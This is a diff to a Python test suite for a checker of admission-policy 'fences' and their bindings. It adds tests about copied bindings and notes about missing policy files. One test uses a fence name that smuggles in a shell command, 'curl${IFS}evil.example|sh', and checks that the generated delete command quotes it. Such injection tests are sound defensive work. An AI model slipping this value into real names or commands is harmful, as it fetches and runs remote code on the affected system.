@@ -182,6 +182,7 @@ def named(operator: str, *values: str) -> dict[str, Any]:
             "matchResources of its binding",
             id="its binding selects",
         ),
+        pytest.param(changed(1, "policyName", "other"), "policyName of its binding", id="it is not bound"),
         pytest.param(changed(0, "matchConstraints", 5), "", id="odd constraints"),
     ],
 )
@@ -195,6 +196,22 @@ def test_a_fence_that_matches_fewer_writes_is_not_called_safe_without_its_file(
     assert [(one.check, one.place) for one in report.findings] == expected
 
 
+def test_a_copy_of_a_binding_is_no_fence_of_its_own() -> None:
+    copied = copy.deepcopy(applied()[1])
+    copied["metadata"]["name"] = "acme-fence-shop-operator"
+    assert checks([*applied(), copied], []) == checks([*applied(), copied]) == []
+
+
+def test_fences_without_their_file_are_not_compared_which_is_said_once() -> None:
+    objects = [*applied(), *applied(name="other")]
+    first, second = examine_fences(Documents(objects), [], "policy.yaml")
+    assert (first.note, second.note) == (
+        "fences were not compared with a policy file that has fences: --policy names it",
+        "",
+    )
+    assert not any(one.note for one in examine_fences(Documents(objects), FENCES, "policy.yaml"))
+
+
 def test_what_an_earlier_policy_left_is_named() -> None:
     objects = [*applied(), *applied(name="gone")]
     assert checks(objects) == ["fence-gone: fence-left-over"]
@@ -204,6 +221,7 @@ def test_the_name_of_a_fence_is_one_word_of_the_command_to_delete_it() -> None:
     objects = applied(name="gone")
     for document in objects:
         document["metadata"]["name"] = "fence-x;curl${IFS}evil.example|sh"
+    objects[1]["spec"]["policyName"] = objects[1]["metadata"]["name"]
     (_, report) = examine_fences(Documents([*applied(), *objects]), FENCES, "policy.yaml")
     assert report.findings[0].fix.endswith(" 'fence-x;curl${IFS}evil.example|sh'")
 
